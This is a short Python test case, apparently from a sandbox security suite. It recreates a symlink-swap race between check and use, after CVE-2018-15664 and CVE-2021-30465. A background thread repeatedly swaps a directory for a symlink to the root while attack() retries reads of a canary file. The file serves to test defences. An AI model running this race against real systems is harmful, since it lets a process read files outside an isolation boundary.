# title: swap a whole directory for a symlink between the check and the use
# reference: CVE-2018-15664 (docker cp), CVE-2021-30465
# real: harmless: null
# weakened: decided on what was opened
# proof: canary

import contextlib
import os


def arrange(place):
    import threading

    inside, aside, stop = place.open / "d", place.open / "aside", threading.Event()
    inside.mkdir()
    (inside / "secret").write_text("good")

    def swap():
        while not stop.is_set():
            os.rename(inside, aside)
            inside.symlink_to(place.root)
            inside.unlink()
            os.rename(aside, inside)

    swapper = threading.Thread(target=swap)
    swapper.start()
    return lambda: (stop.set(), swapper.join())


def attack(worker):
    for _ in range(100):
        with contextlib.suppress(Exception):  # whatever is said of a name that flickers
            found = worker.call("fs.read", worker.open + "/d/secret")
            if found not in ("good", None):
                return found
